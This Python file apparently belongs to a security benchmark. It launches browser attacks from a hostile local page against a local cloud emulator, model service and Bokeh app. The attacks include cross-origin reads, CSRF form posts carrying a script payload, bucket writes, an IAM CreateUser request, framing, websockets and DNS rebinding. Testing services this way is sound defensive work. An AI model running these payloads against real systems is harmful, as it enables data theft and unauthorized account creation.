"""Attacks by web pages, in a Chromium of this machine's user: another port, another name, rebinding."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from playwright.sync_api import Browser, Error, Page

from benchmarks._attack_target import MARK, Attempt, Target
from infra.browser import opened

PATIENCE_MS = 30_000
#: Runs in the page; answers what it could see, or null.
READ = """async ([url, method, mode]) => {
    try {
        const answer = await fetch(url, {method, mode, credentials: "include",
            body: method === "GET" ? undefined : "x", signal: AbortSignal.timeout(20000)});
        return answer.type !== "opaque" && answer.ok ? `${answer.status} read` : null;
    } catch { return null; }
}"""
XHR = """([url, method]) => new Promise(done => {
    const ask = new XMLHttpRequest();
    ask.open(method, url); ask.timeout = 20000;
    ask.onload = () => done(ask.status && ask.status < 400 ? `${ask.status} read` : null);
    ask.onerror = ask.ontimeout = () => done(null);
    ask.send(method === "GET" ? undefined : "x");
})"""
SOCKET = """url => new Promise(done => {
    const socket = new WebSocket(url, ["bokeh", "a.b"]);
    socket.onopen = () => done("websocket open");
    socket.onerror = socket.onclose = () => done(null);
    setTimeout(() => done(null), 20000);
})"""
ELEMENT = """([tag, attribute, url]) => new Promise(done => {
    const element = document.createElement(tag);
    element[attribute] = url;
    if (tag === "link") element.rel = "stylesheet";
    element.onload = () => done(`${tag} loaded`);
    element.onerror = () => done(null);
    document.body.append(element);
    setTimeout(() => done(null), 20000);
})"""
# A frame of a refused page loads as well: whether anything came is asked of the frame itself.
FORM = """([url, type, fields]) => {
    const form = document.createElement("form");
    form.method = "POST"; form.action = url; form.enctype = type; form.target = "sink";
    for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement("textarea");
        input.name = name; input.value = value; form.append(input);
    }
    const sink = document.createElement("iframe");
    sink.name = "sink"; document.body.append(sink, form); form.submit();
}"""


class Hostile(BaseHTTPRequestHandler):
    """Serves a page, and redirects to whatever follows /to/ with the status before it."""

    def do_GET(self) -> None:
        if self.path.startswith("/to/"):
            _, _, status, url = self.path.split("/", 3)
            self.send_response(int(status))
            self.send_header("Location", url)
            self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        page = b"<!doctype html><title>hostile</title><body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    do_POST = do_GET  # noqa: N815  # the names that http.server asks for

    def log_message(self, *args: object) -> None:
        """The attackers are quiet."""


@contextmanager
def pages(target: Target) -> Iterator[Iterator[Attempt]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with opened("--host-resolver-rules=MAP *.example 127.0.0.1") as browser:
        try:
            yield attempts(target, browser, server.server_port) if browser else iter(())
        finally:
            server.shutdown()


def attempts(target: Target, browser: Browser, port: int) -> Iterator[Attempt]:
    for origin in ("evil.example", "127.0.0.1", "localhost"):
        home = f"http://{origin}:{port}/"
        opened = partial(_from_page, browser, home)
        yield from _foreign(target, home, opened)
    for part, paths in {
        "cloud": ["/satispy?list-type=2", "/satispy?list-type=2&prefix=accounts/", "/_localstack/info", "/_aws/execute-api/satispy/api/status", "/2015-03-31/functions/"],
        "service": ["/models", "/metrics", "/docs.json", "/readyz"],
        "app": ["/app", "/app/metadata", "/app/autoload.js", "/static/js/bokeh.min.js"],
    }.items():  # fmt: skip
        # The page came from the attackers' server under this name and port; then the name's address
        # changed to 127.0.0.1, and to the browser nothing did.
        rebound = f"http://evil.example:{target.ports[part]}"
        opened = partial(_from_page, browser, rebound + "/")
        for path in paths:
            read = partial(opened, READ, [path, "GET", "same-origin"])
            yield Attempt("DNS rebinding", f"{part}: GET {path}", read)
        if part == "cloud":
            put = partial(opened, READ, [f"/satispy/uploads/{MARK}-rebound.csv", "PUT", "cors"])
            yield Attempt("DNS rebinding", "cloud: PUT", _with_effect(target, put))
        if part == "service":
            post = partial(opened, READ, ["/predict", "POST", "cors"])
            yield Attempt("DNS rebinding", "service: POST /predict", post)
        if part == "app":
            socket = partial(opened, SOCKET, rebound.replace("http", "ws") + "/app/ws")
            yield Attempt("DNS rebinding", "app: websocket", socket)


def _foreign(target: Target, home: str, opened: Any) -> Iterator[Attempt]:
    name = home.split("/")[2].split(":")[0]
    cloud, service, app = (target.url(part) for part in ("cloud", "service", "app"))
    bucket = f"{cloud}/{target.bucket}"
    for url in (f"{bucket}?list-type=2", f"{cloud}/_localstack/info", f"{cloud}/_aws/execute-api/satispy/api/status", f"{service}/models", f"{app}/app"):  # fmt: skip
        for script, arguments in ((READ, [url, "GET", "cors"]), (XHR, [url, "GET"])):
            how = "fetch" if script is READ else "XHR"
            yield Attempt("page: read", f"{name}: {how} {url}", partial(opened, script, arguments))
        redirected = partial(opened, READ, [f"{home}to/307/{url}", "GET", "cors"])
        yield Attempt("page: redirect", f"{name}: to {url}", redirected)
    for prefix in ("uploads", "accounts"):
        key = f"{prefix}/{MARK}-{name}"
        fields = {"key": key, "Content-Type": "text/html", "file": "<script>alert(1)</script>"}
        for kind in ("multipart/form-data", "application/x-www-form-urlencoded", "text/plain"):
            post = partial(opened, FORM, [bucket, kind, {**fields, "key": f"{key}-{kind[:4]}"}])
            yield Attempt(
                "page: form", f"{name}: {kind} into {prefix}/", _with_effect(target, post)
            )
        for mode in ("cors", "no-cors"):
            for method in ("PUT", "POST"):
                put = partial(opened, READ, [f"{bucket}/{key}-{mode}-{method}", method, mode])
                strike = _with_effect(target, put)
                yield Attempt("page: write", f"{name}: {mode} {method} {prefix}/", strike)
        to = f"{home}to/307/{bucket}/{key}-redirected"
        redirect = partial(opened, READ, [to, "POST", "no-cors"])
        yield Attempt("page: redirect", f"{name}: POST {prefix}/", _with_effect(target, redirect))
    form = {"Action": "CreateUser", "Version": "2010-05-08", "UserName": MARK}
    post = partial(opened, FORM, [f"{cloud}/", "application/x-www-form-urlencoded", form])
    yield Attempt("page: form", f"{name}: Action=CreateUser", _with_user(target, post))
    for tag, attribute, url in (
        ("script", "src", f"{app}/app/autoload.js?bokeh-autoload-element=1"),
        ("script", "src", f"{app}/static/js/bokeh.min.js"),
        ("img", "src", f"{app}/favicon.ico"),
        ("link", "href", f"{service}/static_content/swagger-ui.css"),
    ):
        embed = partial(opened, ELEMENT, [tag, attribute, url])
        yield Attempt("page: embedded", f"{name}: {tag} {url}", embed)
    for url in (f"{app}/app", f"{service}/", f"{cloud}/_localstack/health"):
        yield Attempt("page: frame", f"{name}: {url}", partial(opened, None, url))
    for url in (app, service, cloud):
        socket = url.replace("http", "ws") + "/app/ws"
        yield Attempt("page: websocket", f"{name}: {socket}", partial(opened, SOCKET, socket))


def _from_page(browser: Browser, home: str, script: str | None, argument: Any) -> str | None:
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(home, timeout=PATIENCE_MS)
        if script is None:
            return _framed(page, argument)
        answer = page.evaluate(script, argument)
        if script is FORM:
            page.wait_for_timeout(1500)
        return str(answer) if answer else None
    except Error:
        return None
    finally:
        context.close()


def _framed(page: Page, url: str) -> str | None:
    page.evaluate("url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f) }", url)  # fmt: skip
    page.wait_for_timeout(4000)
    frame = page.frames[-1]
    # A frame that the browser refuses to show is an error page of its own.
    shown = frame.url.startswith(url) and frame.evaluate("document.body.innerText.length + document.scripts.length")  # fmt: skip
    text = json.dumps(frame.evaluate("document.body.innerText.slice(0, 60)")) if shown else ""
    return f"framed: {text}" if shown and "this answers its own pages" not in text else None


def _with_effect(target: Target, strike: Any) -> Any:
    """Through is what is there afterwards, whatever the page could see of the answer."""

    def struck() -> str | None:
        strike()
        return target.planted()

    return struck


def _with_user(target: Target, strike: Any) -> Any:
    def struck() -> str | None:
        strike()
        users = target.client("iam").list_users()["Users"]
        return "a user" if any(user["UserName"] == MARK for user in users) else None

    return struck
